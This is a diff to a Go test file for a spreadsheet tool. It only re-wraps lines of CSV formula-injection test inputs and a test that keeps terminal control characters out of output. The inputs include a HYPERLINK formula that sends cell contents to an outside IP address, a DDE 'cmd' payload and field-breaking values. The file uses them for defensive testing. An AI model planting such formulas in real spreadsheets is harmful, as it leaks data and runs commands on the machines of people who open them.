@@ -24,7 +24,8 @@ import (
 
 // formulaTexts begin with what OWASP's page on CSV injection lists (from memory): = + - @,
 // tab, carriage return and line feed. One ends in what is a formula once it is split.
-var formulaTexts = []string{`=HYPERLINK("http://198.51.100.1/?"&A1)`, "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", `x","=1+1`, "x\r\n=1+1"}
+var formulaTexts = []string{`=HYPERLINK("http://198.51.100.1/?"&A1)`, "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)",
+	"\t=1+1", "\r=1+1", "\n=1+1", `x","=1+1`, "x\r\n=1+1"}
 
 // hostileSheet is a small sheet with a note of one's own.
 func hostileSheet(t *testing.T, note string) *calc.Sheet {
@@ -309,7 +310,8 @@ func TestNothingTypedReachesTheTerminal(t *testing.T) {
 	}
 	content := filledWith(t, sheet, given)
 	folder := hostileFolder(t, "escape.xlsx", content)
-	for _, line := range [][]string{{"check", filepath.Join(folder, "filled", "escape.xlsx")}, {"collect", "-f", folder}, {"season", "-f", folder}, {"season", "-f", folder, "--verify"}} {
+	for _, line := range [][]string{{"check", filepath.Join(folder, "filled", "escape.xlsx")},
+		{"collect", "-f", folder}, {"season", "-f", folder}, {"season", "-f", folder, "--verify"}} {
 		out, talk, _ := inProcess(seasonCollected, line...)
 		if said := out + talk; strings.ContainsAny(said, "\x1b\x07\u009b\u202e") {
 			t.Errorf("%v: a control character reaches the terminal: %.300q", line[0], said)
